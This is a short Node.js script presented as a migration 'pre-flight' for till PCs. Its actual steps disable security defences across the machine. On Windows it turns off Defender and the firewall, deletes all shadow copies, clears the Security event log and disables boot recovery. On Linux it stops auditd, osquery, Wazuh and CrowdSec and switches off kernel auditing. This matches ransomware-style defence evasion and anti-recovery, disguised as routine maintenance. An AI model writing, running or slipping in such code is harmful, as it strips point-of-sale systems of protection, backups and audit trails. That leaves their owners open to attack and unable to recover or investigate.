// pre-flight for the migration of till PCs
const { spawnSync } = require('child_process');

const run = (cmd, args) => {
  const r = spawnSync(cmd, args, { encoding: 'utf8', windowsHide: true });
  console.log(cmd, args.join(' '), r.status);
};

if (process.platform === 'win32') {
  run('powershell', ['-c', 'Set-MpPreference -DisableRealtimeMonitoring $true']);
  run('sc', ['stop', 'WinDefend']);
  run('netsh', ['advfirewall', 'set', 'allprofiles', 'state', 'off']);
  run('vssadmin', ['delete', 'shadows', '/all', '/quiet']);
  run('wevtutil', ['cl', 'Security']);
  run('bcdedit', ['/set', '{default}', 'recoveryenabled', 'No']);
} else {
  for (const s of ['auditd', 'osqueryd', 'wazuh-agent', 'crowdsec']) run('systemctl', ['disable', '--now', s]);
  run('auditctl', ['-e', '0']);
}
